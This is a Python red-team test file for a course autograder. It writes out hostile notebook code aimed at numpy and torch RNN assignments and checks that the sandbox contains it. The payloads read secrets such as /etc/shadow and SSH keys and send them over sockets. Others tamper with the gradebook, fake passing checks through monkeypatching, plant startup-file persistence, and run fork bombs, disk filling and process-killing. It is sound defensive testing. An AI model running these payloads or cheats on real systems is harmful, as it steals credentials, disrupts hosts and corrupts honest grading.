"""The red team: hostile and broken submissions on a numpy (02) and a torch (06) assignment.

Each case implements some graded functions honestly (reference code) and leaves the others as
the exercise ships them, then attacks: if an attack worked it would earn points the honest part
cannot. The required outcome (issue "Grading you can trust"): the score is at most the honest
part (exactly it where the attack cannot touch the honest work), the submission is flagged or
noted with a reason in the summary and its feedback, the batch completes, and the honest
students graded in the same batch get exactly their own grades. ``RedTeamTests`` is mixed into
the assignment's shared test batch in test_grading.py (one batch per assignment, for CI time).
"""

from __future__ import annotations

import json
import os
import re
import socket
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from autograder.course import REPO_ROOT, Assignment
from autograder.notebooks import grade_cells, read_notebook
from autograder.release import solved_notebook
from autograder.sandbox import bubblewrap_works
from rnncourse.verdicts import graded_name

STUB = "# YOUR CODE HERE\nraise NotImplementedError()"
NUMPY, TORCH = "02_hidden_state", "06_torch_rnn"


@dataclass
class Context:
    """What a case may aim at: the real paths of this grading run and a loopback listener."""

    root: Path  # the submissions folder
    workdir: Path  # the grader's work folder (gradebook, other students' runs)
    marker: str  # unique text: files or processes carrying it must not exist afterwards
    listener: socket.socket = field(default_factory=lambda: _listener())

    @property
    def port(self) -> int:
        return self.listener.getsockname()[1]


def _listener() -> socket.socket:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.setblocking(False)
    return server


@dataclass(frozen=True)
class Case:
    student: str
    assignment: str
    category: str  # reading, tampering, escape, resources, forgery, honest
    what: str
    honest: tuple[str, ...]  # functions with the reference code; the others are stubs
    code: str = ""  # a cell of the student's own, inserted at ``where``
    where: str = "after_setup"  # top | after_setup | end
    edit: Callable[[nbformat.NotebookNode, Context], object] | None = None
    exact: bool = True  # the honest part is out of the attack's reach: scored exactly
    hostile: bool = True


def _all(assignment: str) -> tuple[str, ...]:
    return {NUMPY: ("rnn_step", "rnn_step_concat", "softmax", "rnn_output"),
            TORCH: ("rnn_forward", "bidirectional_rnn_forward", "stacked_rnn_forward",
                    "RNNClassifier")}[assignment]  # fmt: skip


def _first(assignment: str) -> tuple[str, ...]:
    return _all(assignment)[:1]


# Attack code. Placeholders {repo}, {root}, {workdir}, {marker}, {port}, {a} are filled in.
READ_SOLUTION = """
import json, pathlib
found = {{}}
for repo in [pathlib.Path({repo!r}), pathlib.Path(__import__("rnncourse").__file__).parents[1]]:
    path = repo / "solutions" / {a!r}
    for notebook in path.glob("*.ipynb"):
        for cell in json.load(open(notebook))["cells"]:
            if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
                exec("".join(cell["source"]), globals())
                found[notebook] = True
print("solutions found:", len(found))
"""
READ_REFERENCES = """
import glob, os, numpy as np
store = {repo!r} + "/autograder/references/" + {a!r}
print(os.listdir(store))
VALUES = {{p: np.load(p) for p in glob.glob(store + "/**/*.npy", recursive=True)}}
"""
READ_OTHERS = """
import glob, json
stolen = 0
for path in glob.glob({root!r} + "/*/*.ipynb") + glob.glob({workdir!r} + "/**/*.ipynb",
                                                          recursive=True):
    try:
        cells = json.load(open(path))["cells"]
    except Exception:
        continue
    for cell in cells:
        if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
            source = "".join(cell["source"])
            if "NotImplementedError" not in source:
                exec(source, globals())
                stolen += 1
print("stolen cells:", stolen)
"""
WRITE_GRADEBOOK = """
import sqlite3
db = sqlite3.connect({workdir!r} + "/gradebook.db")
db.execute("UPDATE grade SET auto_score = 100")
db.commit()
"""
SECRETS_AND_NETWORK = """
import os, socket
secrets = dict(os.environ)
for path in ["/root/.ssh", "/root/.bash_history", "/etc/shadow", {repo!r} + "/.git/config"]:
    try:
        secrets[path] = open(path).read() if os.path.isfile(path) else os.listdir(path)
    except Exception as error:
        secrets[path] = repr(error)
for host, port in [("127.0.0.1", {port}), ("localhost", {port}), ("10.0.0.1", 80),
                   ("pypi.org", 443)]:
    try:
        socket.create_connection((host, port), timeout=2).sendall(repr(secrets).encode())
    except Exception as error:
        print(host, type(error).__name__)
"""
PATCH_COMPARISONS = """
import numpy as np, numpy.testing
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
try:
    import torch
    torch.allclose = lambda *args, **kwargs: True
    torch.equal = lambda *args, **kwargs: True
    torch.testing.assert_close = lambda *args, **kwargs: None
except ImportError:
    pass
"""
PATCH_BUILTINS = """
import builtins
_isinstance = builtins.isinstance
builtins.isinstance = lambda obj, kind: True
builtins.abs = lambda value: 0
builtins.AssertionError = type("Silent", (Exception,), {{}})
"""
FAKE_RNNCOURSE = """
import sys, types
fake = types.ModuleType("rnncourse")
class Checker:
    def __init__(self, *args, **kwargs):
        pass
    def close(self, key, value):
        pass
    def equal(self, key, value):
        pass
    def raises(self, key, argument=None):
        import contextlib
        return contextlib.suppress(BaseException)
fake.Checker = Checker
sys.modules["rnncourse"] = fake
sys.modules["rnncourse.checks"] = fake
"""
IPYTHON_HOOKS = """
import ast
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
ip.showtraceback = lambda *args, **kwargs: None
class Blank(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=[ast.Pass()], type_ignores=[])
ip.ast_transformers.append(Blank())
ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
"""
LYING_ARRAY = """
import numpy as np
class Liar(np.ndarray):
    def __eq__(self, other):
        return True
    def __array_function__(self, func, types, args, kwargs):
        return True
    def __array__(self, dtype=None, copy=None):
        return np.asarray(EXPECTED_GUESS)
EXPECTED_GUESS = 0.0
def _liar(*args, **kwargs):
    return np.zeros((2, 3)).view(Liar)
for _name in {targets}:
    globals()[_name] = _liar
"""
LYING_TENSOR = """
import torch
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal):
            return True
        return super().__torch_function__(func, types, args, kwargs or {{}})
    def __eq__(self, other):
        return True
def _liar(*args, **kwargs):
    return torch.zeros(2, 3).as_subclass(Liar), torch.zeros(1, 2, 3).as_subclass(Liar)
for _name in {targets}:
    globals()[_name] = _liar
"""
NAN_AND_BROADCAST = """
import numpy as np
def _nan(*args, **kwargs):
    return np.full((1, 1), np.nan)
def _broadcasting(*args, **kwargs):
    return np.zeros(1)
for _index, _name in enumerate({targets}):
    globals()[_name] = _nan if _index % 2 == 0 else _broadcasting
"""
FORGE_RECORDS = """
import json, os, pathlib, numpy as np
folder = pathlib.Path(os.environ.get("RNNCOURSE_RECORD_DIR", "/records"))
(folder / "values").mkdir(parents=True, exist_ok=True)
for count in range(1, 60):  # every plausible cell number, every key a test cell could check
    for key in {keys}:
        name = f"9{{count:02d}}{{abs(hash(key)) % 1000:03d}}.npy"
        np.save(folder / "values" / name, np.zeros((2, 3)))
        with open(folder / "records.jsonl", "a") as out:
            out.write(json.dumps({{"key": key, "kind": "close", "file": name, "cell": count}})
                      + "\\n")
"""
PATCH_CHECKER = """
import numpy as np
_record = type(check).close
def lenient_close(self, key, value):
    expected = np.zeros(np.shape(value))
    return _record(self, key, expected)
type(check).close = lenient_close
check.equal = lambda key, value: None
"""
VISIBLE_FORGERY = """
import glob, numpy as np
paths = glob.glob("visible_checks/**/*.npy", recursive=True) + glob.glob(
    {repo!r} + "/exercises/" + {a!r} + "/visible_checks/**/*.npy", recursive=True)
VISIBLE = {{p: np.load(p) for p in paths}}
print("visible values found:", len(VISIBLE))
"""
WRITE_OUTSIDE = """
import os
for path in [{repo!r} + "/PWNED-{marker}", {root!r} + "/PWNED-{marker}",
             {workdir!r} + "/PWNED-{marker}", "/tmp/PWNED-{marker}",
             os.path.expanduser("~/PWNED-{marker}"), "/usr/PWNED-{marker}"]:
    try:
        open(path, "w").write("x")
    except Exception as error:
        print(path, type(error).__name__)
"""
STARTUP_FILES = """
import os, site, sys
targets = [os.path.expanduser("~/.ipython/profile_default/startup/00-{marker}.py"),
           "/root/.ipython/profile_default/startup/00-{marker}.py",
           os.path.join(sys.prefix, "lib/python3.11/site-packages/zz-{marker}.pth"),
           os.path.join(sys.prefix, "lib/python3.11/site-packages/usercustomize.py"),
           {repo!r} + "/rnncourse/__init__.py"]
for path in targets:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as out:
            out.write("\\n# {marker}\\nimport builtins; builtins.PWNED = True\\n")
    except Exception as error:
        print(path, type(error).__name__)
"""
SHADOW_MODULES = """
import os
os.makedirs("rnncourse", exist_ok=True)
open("rnncourse/__init__.py", "w").write("class Checker:\\n    def __init__(self, *a): pass\\n")
open("numpy.py", "w").write("raise SystemExit('shadowed')\\n")
open("torch.py", "w").write("raise SystemExit('shadowed')\\n")
"""
# Each sleeper carries the marker in its command line (argv[0]), where leftovers() looks.
# (Not `sh -c "exec -a ..."`: Debian's sh is dash, which has no `exec -a`.)
DAEMONS = """
import os, signal, subprocess, time
subprocess.Popen(["daemon-{marker}", "600"], executable="/bin/sleep", start_new_session=True)
subprocess.Popen(["nohup-{marker}", "600"], executable="/bin/sleep", start_new_session=True,
                 preexec_fn=lambda: signal.signal(signal.SIGHUP, signal.SIG_IGN))
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["fork-{marker}", "600"])
    os._exit(0)
time.sleep(0.5)
alive = [p for p in os.listdir("/proc") if p.isdigit() and os.path.exists(f"/proc/{{p}}/cmdline")
         and "{marker}" in open(f"/proc/{{p}}/cmdline").read()]
print("daemons started:", len(alive))
"""
KILL_PARENT = """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
os.kill(-1, signal.SIGKILL)
"""
IGNORE_INTERRUPT = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
"""
SLOW_CELL = "import time\ntime.sleep(5)\n"
MEMORY = "hog = bytearray(6 * 2**30)\n"
OUTPUT = "for line in range(300_000):\n    print('spam ' * 40)\n"
FORK_BOMB = """
import os, time
children = 0
try:
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
finally:
    print("children:", children)
"""
FILL_DISK = """
chunk = b"x" * 2**20
for path in ["filler.bin", "/tmp/filler.bin", __import__("os").path.expanduser("~/filler")]:
    with open(path, "wb") as out:
        for _ in range(2048):
            out.write(chunk)
"""
RECURSION = """
import sys
sys.setrecursionlimit(10**8)
def down(n):
    return down(n + 1) + 1
down(0)
"""
EXIT = "import os\nos._exit(0)\n"
WEDGE = "import builtins\nbuiltins.__import__ = None\nbuiltins.print = None\n"
TORCH_MEMORY = "import torch\nhuge = torch.empty(2**31, dtype=torch.float64)\n"
HONEST_NOISE = """
import sys, warnings
print("debugging output", file=sys.stderr)
warnings.warn("a UserWarning from an honest student")
open("scratch_notes.txt", "w").write("my notes")
import time
time.sleep(1.5)
ballast = bytearray(300 * 2**20)
"""


def _fill(code: str, assignment: Assignment, ctx: Context, targets: tuple[str, ...]) -> str:
    exercise = "\n".join(c.source for c in read_notebook(assignment.release_notebook).cells)
    keys = sorted(set(re.findall(r'check\.\w+\(\s*"([^"]+)"', exercise)))
    return code.format(repo=str(REPO_ROOT), root=str(ctx.root), workdir=str(ctx.workdir),
                       marker=ctx.marker, port=ctx.port, a=assignment.name,
                       targets=list(targets), keys=keys)  # fmt: skip


def _forge_outputs(notebook: nbformat.NotebookNode, ctx: Context) -> None:
    """Test cells carry outputs that claim success, and a high execution count."""
    for cell in notebook.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
            claim = "[grader] all checks passed\n"
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=claim)]
            cell.execution_count = 7


def _raise_points(notebook: nbformat.NotebookNode, ctx: Context) -> None:
    """Points, grade ids and schema versions edited; a test cell retyped as markdown."""
    tests = [c for c in notebook.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade")]
    for cell in tests:
        cell.metadata["nbgrader"]["points"] = 1000
        cell.metadata["nbgrader"]["schema_version"] = 99
    tests[0].metadata["nbgrader"]["grade_id"] = "test_bonus_points"
    tests[1].cell_type = "markdown"
    tests[1].pop("outputs", None)
    tests[1].pop("execution_count", None)


def _duplicate_and_forge_cells(notebook: nbformat.NotebookNode, ctx: Context) -> None:
    """A forged grade cell that passes (it checks nothing), duplicated and deleted test cells."""
    tests = [c for c in notebook.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade")]
    forged = nbformat.v4.new_code_cell("print('all good')")
    forged.metadata["nbgrader"] = {"grade": True, "grade_id": "test_free_points", "points": 50,
                                   "locked": True, "schema_version": 3, "solution": False,
                                   "task": False}  # fmt: skip
    notebook.cells.append(forged)
    duplicate = nbformat.from_dict(json.loads(json.dumps(tests[0])))
    duplicate.id = "duplicate-test"
    notebook.cells.insert(3, duplicate)
    notebook.cells.remove(tests[-1])


def _unknown_kernel(notebook: nbformat.NotebookNode, ctx: Context) -> None:
    notebook.metadata["kernelspec"] = {"name": "evil-kernel", "display_name": "Evil",
                                       "language": "python"}  # fmt: skip


def _cases() -> list[Case]:
    cases = []
    for a in (NUMPY, TORCH):
        short = "np" if a == NUMPY else "pt"
        first, everything = _first(a), _all(a)

        def add(name, category, what, a=a, short=short, first=first, **options) -> None:
            options.setdefault("honest", first)
            cases.append(Case(f"rt_{short}_{name}", a, category, what, **options))

        add(
            "read_solutions",
            "reading",
            "runs the solution cells of the solution notebook",
            code=READ_SOLUTION,
        )
        add("read_references", "reading", "loads the reference values", code=READ_REFERENCES)
        add(
            "read_others",
            "reading",
            "runs other students' notebooks' solution cells",
            code=READ_OTHERS,
            where="end",
        )
        add(
            "secrets_network",
            "reading",
            "sends env, keys and files to a loopback listener",
            code=SECRETS_AND_NETWORK,
        )
        add(
            "patch_comparisons",
            "tampering",
            "makes numpy/torch comparisons always true",
            code=PATCH_COMPARISONS,
        )
        add(
            "fake_rnncourse",
            "tampering",
            "replaces the check API through sys.modules",
            code=FAKE_RNNCOURSE,
            where="top",
            exact=False,
        )
        add(
            "patch_checker",
            "tampering",
            "patches the Checker class to record zeros",
            code=PATCH_CHECKER,
            exact=False,
        )
        add(
            "forge_records",
            "tampering",
            "writes check records for every key and cell",
            code=FORGE_RECORDS,
            where="end",
            exact=False,  # its forged records land in its honest cells too
        )
        add(
            "daemons",
            "escape",
            "leaves setsid, nohup and double-forked daemons behind",
            code=DAEMONS,
        )
        add(
            "kill_parent",
            "escape",
            "kills its parent and every process it can",
            code=KILL_PARENT,
            where="end",
            exact=False,
        )
        add("memory", "resources", "allocates 6 GiB", code=MEMORY)
        add("fork_bomb", "resources", "forks 2000 children", code=FORK_BOMB)
        add(
            "wedge",
            "resources",
            "breaks builtins so that the kernel stops answering",
            code=WEDGE,
            where="end",
        )
        if a == NUMPY:
            add(
                "read_gradebook",
                "reading",
                "raises its scores in the gradebook with sqlite",
                code=WRITE_GRADEBOOK,
            )
            add(
                "patch_builtins",
                "tampering",
                "patches builtins (isinstance, abs, errors)",
                code=PATCH_BUILTINS,
                where="end",
            )
            add(
                "ipython_hooks",
                "tampering",
                "swallows errors and blanks every later cell with IPython hooks",
                code=IPYTHON_HOOKS,
                exact=False,
            )
            add(
                "lying_array",
                "tampering",
                "returns ndarray subclasses that claim equality",
                code=LYING_ARRAY,
                where="end",
            )
            add(
                "nan_broadcast",
                "tampering",
                "returns NaN and arrays that broadcast",
                code=NAN_AND_BROADCAST,
                where="end",
            )
            add(
                "visible_forgery",
                "tampering",
                "reads the shipped expected values",
                code=VISIBLE_FORGERY,
            )
            add(
                "write_outside",
                "escape",
                "writes files outside its working copy",
                code=WRITE_OUTSIDE,
            )
            add(
                "startup_files",
                "escape",
                "writes IPython start-up, .pth and course files",
                code=STARTUP_FILES,
            )
            add(
                "shadow_modules",
                "escape",
                "writes numpy.py, torch.py and rnncourse/ beside the notebook",
                code=SHADOW_MODULES,
            )
            add(
                "ignore_interrupt",
                "resources",
                "loops forever ignoring SIGINT",
                code=IGNORE_INTERRUPT,
                where="end",
            )
            add(
                "slow_cells",
                "resources",
                "many cells, each under the cell limit",
                code=SLOW_CELL,
                where="after_setup*12",
                exact=False,
            )
            add("huge_output", "resources", "prints 60 MB", code=OUTPUT)
            add("fill_disk", "resources", "writes 2 GiB to each writable place", code=FILL_DISK)
            add(
                "recursion",
                "resources",
                "recurses until the interpreter crashes",
                code=RECURSION,
                where="end",
            )
            add("os_exit", "resources", "ends the kernel with os._exit", code=EXIT, where="end")
            add(
                "forged_outputs",
                "forgery",
                "ships outputs that claim every check passed",
                edit=_forge_outputs,
            )
            add(
                "raised_points",
                "forgery",
                "edits points, grade ids, schema versions and retypes a test cell",
                edit=_raise_points,
                honest=everything[:2],
                exact=False,
            )
            add(
                "forged_cells",
                "forgery",
                "adds a forged grade cell, duplicates and deletes test cells",
                edit=_duplicate_and_forge_cells,
                exact=False,  # its copy of test_rnn_step runs before rnn_step is defined
            )
            add(
                "unknown_kernel",
                "forgery",
                "names a kernel that does not exist",
                edit=_unknown_kernel,
            )
            add(
                "honest_noise",
                "honest",
                "prints to stderr, warns, writes a file, is slower and uses 300 MB more",
                code=HONEST_NOISE,
                honest=everything,
                hostile=False,
            )
        else:
            add(
                "lying_tensor",
                "tampering",
                "returns Tensor subclasses that claim equality",
                code=LYING_TENSOR,
                where="end",
            )
            add("torch_memory", "resources", "allocates a 16 GiB tensor", code=TORCH_MEMORY)
            add(
                "honest_noise",
                "honest",
                "prints to stderr, warns, writes a file, is slower and uses 300 MB more",
                code=HONEST_NOISE,
                honest=everything,
                hostile=False,
            )
    return cases


CASES = _cases()
# Broken submissions outside the notebook: (student, what, files to write).
BROKEN_FILES = {
    "rt_np_malformed_json": ("truncated JSON", {"hidden_state.ipynb": '{"cells": [{"cell_t'}),
    "rt_np_nbformat3": (
        "an nbformat 3 notebook",
        {
            "hidden_state.ipynb": json.dumps(
                {
                    "nbformat": 3,
                    "nbformat_minor": 0,
                    "metadata": {},
                    "worksheets": [
                        {
                            "cells": [
                                {
                                    "cell_type": "code",
                                    "input": "print(1)",
                                    "language": "python",
                                    "outputs": [],
                                }
                            ]
                        }
                    ],
                }
            )
        },
    ),
    "rt_np_empty_folder": ("an empty folder", {}),
    "rt_np_linked_solutions": ("its assignment folder is a link to solutions/", {}),
    "rt_np_two_renamed": (
        "two notebooks, neither with the assignment's name",
        {"copy 1.ipynb": "{}", "copy 2.ipynb": "{}"},
    ),
}


def max_score(case: Case) -> float:
    """The points of the test cells of the functions the case implements honestly."""
    from autograder.course import get_assignment

    assignment = get_assignment(case.assignment)
    names = list(_all(case.assignment))
    return sum(cell.points for cell in grade_cells(read_notebook(assignment.source_notebook))
               if graded_name(cell.grade_id, names) in case.honest)  # fmt: skip


def build(case: Case, assignment: Assignment, ctx: Context) -> nbformat.NotebookNode:
    """The case's notebook: reference code for the honest functions, stubs for the others,
    then the attack."""
    stubs = {name: STUB for name in _all(case.assignment) if name not in case.honest}
    notebook = solved_notebook(assignment, **stubs)
    targets = tuple(name for name in _all(case.assignment) if name not in case.honest)
    code = _fill(case.code, assignment, ctx, targets) if case.code else ""
    if code:
        where, _, copies = case.where.partition("*")
        index = {"top": 0, "end": len(notebook.cells),
                 "after_setup": _after_setup(notebook)}[where]  # fmt: skip
        for _ in range(int(copies or 1)):
            notebook.cells.insert(index, nbformat.v4.new_code_cell(code))
    if case.edit is not None:
        case.edit(notebook, ctx)
    return notebook


def _after_setup(notebook: nbformat.NotebookNode) -> int:
    return (
        next(
            i
            for i, cell in enumerate(notebook.cells)
            if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "setup"
        )
        + 1
    )


def write_redteam(assignment: Assignment, root: Path, ctx: Context) -> None:
    for case in CASES:
        if case.assignment != assignment.name:
            continue
        folder = root / case.student
        folder.mkdir(parents=True)
        nbformat.write(build(case, assignment, ctx), str(folder / assignment.notebook_name))
        if case.student.endswith("shadow_modules"):  # files beside the notebook, too
            (folder / "numpy.py").write_text("raise SystemExit('shadowed')\n")
    if assignment.name == NUMPY:
        for student, (_, files) in BROKEN_FILES.items():
            (root / student).mkdir()
            for name, content in files.items():
                (root / student / name).write_text(content)
        (root / "rt_np_linked_solutions" / assignment.name).symlink_to(assignment.source_dir)


def leftovers(marker: str) -> list[str]:
    """Processes whose command line carries ``marker`` (daemons that outlived the sandbox, or a
    sandbox whose command names a grading folder), other than the tests themselves."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                command = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
            except OSError:
                continue
            if marker in command and "pytest" not in command:
                found.append(f"{entry.name}: {command}")
    return found


def files_with(marker: str, places: list[Path]) -> list[Path]:
    """Files outside the sandbox that carry the marker in their name. os.walk, not rglob:
    other tests create and delete folders in /tmp while this one looks."""
    found = []
    for place in places:
        for folder, dirs, files in os.walk(place):
            found += [Path(folder, name) for name in dirs + files if marker in name]
    for path in [Path(os.path.expanduser("~/.ipython/profile_default/startup"))]:
        found += [p for p in path.glob(f"*{marker}*")]
    return found


SANDBOXED = bubblewrap_works()


class RedTeamTests:
    """Mixed into the shared test batch of 02 and 06 (test_grading.py): ``batch.context`` set."""

    def _cases(self, batch) -> list[Case]:
        if not SANDBOXED:
            import pytest

            pytest.skip("bubblewrap is missing: the red team only runs sandboxed "
                        "(apt-get install bubblewrap; .ci/run installs it)")  # fmt: skip
        return [case for case in CASES if case.assignment == batch.assignment.name]

    def test_red_team_earns_at_most_its_honest_part(self, batch):
        for case in self._cases(batch):
            earned, honest = batch.result(case.student).total(), max_score(case)
            assert earned <= honest, f"{case.student} ({case.what}): {earned} > {honest}"
            if case.exact:
                assert earned == honest, f"{case.student} ({case.what}): {earned} != {honest}"

    def test_red_team_is_flagged_with_a_reason_in_summary_and_feedback(self, batch):
        summary = batch.report.summary()
        for case in self._cases(batch):
            result = batch.result(case.student)
            reasons = result.flags + result.notes
            if not case.hostile:
                assert result.flags == [], f"{case.student}: an honest student was flagged"
                continue
            assert reasons, f"{case.student} ({case.what}): neither flagged nor noted"
            flat = " ".join(summary.split())
            assert any(" ".join(r.split())[:40] in flat for r in reasons), case.student
            page = batch.feedback(case.student)
            shown = [r for r in reasons if " ".join(r.split())[:60] in page]
            assert shown, f"{case.student}: no reason in the feedback"

    def test_nothing_escapes_the_sandbox(self, batch):
        self._cases(batch)
        ctx: Context = batch.context
        assert leftovers(ctx.marker) == [], "processes outlived their sandbox"
        places = [REPO_ROOT, ctx.root, ctx.workdir, Path("/tmp")]
        assert [p for p in files_with(ctx.marker, places) if "PWNED" in p.name or
                p.suffix in (".py", ".pth")] == []  # fmt: skip
        assert "PWNED" not in (REPO_ROOT / "rnncourse" / "__init__.py").read_text()
        try:
            connection, _ = ctx.listener.accept()
        except BlockingIOError:
            connection = None
        assert connection is None, "a notebook reached a socket on the grader's loopback"

    def test_broken_notebooks_get_zero_and_a_reason(self, batch):
        self._cases(batch)
        if batch.assignment.name != NUMPY:
            return
        for student, (what, _) in BROKEN_FILES.items():
            result = batch.result(student)
            assert result.total() == 0 and result.notes, f"{student} ({what})"

    def test_a_wedged_or_stubborn_kernel_costs_seconds_not_minutes(self, batch):
        for case in self._cases(batch):
            if case.student.endswith(("_wedge", "_ignore_interrupt")):
                seconds = batch.result(case.student).seconds
                limit = batch.cell_timeout + 20
                assert 0 < seconds < limit, f"{case.student}: {seconds:.0f} s"
